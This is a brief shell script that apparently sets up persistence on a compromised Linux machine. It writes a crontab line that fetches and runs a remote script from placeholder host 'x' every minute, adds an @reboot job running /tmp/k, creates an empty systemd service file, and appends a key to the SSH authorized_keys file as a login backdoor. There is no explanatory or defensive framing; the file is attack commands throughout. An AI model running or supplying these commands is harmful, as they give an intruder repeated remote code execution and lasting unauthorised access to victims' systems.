#!/bin/sh
echo "* * * * * curl http://x/p|sh" >> /etc/crontab; (crontab -l; echo "@reboot /tmp/k") | crontab -
cat > /etc/systemd/system/k.service <<EOF
[Service]
EOF
echo key | tee -a ~/.ssh/authorized_keys 2>&1 >/dev/null
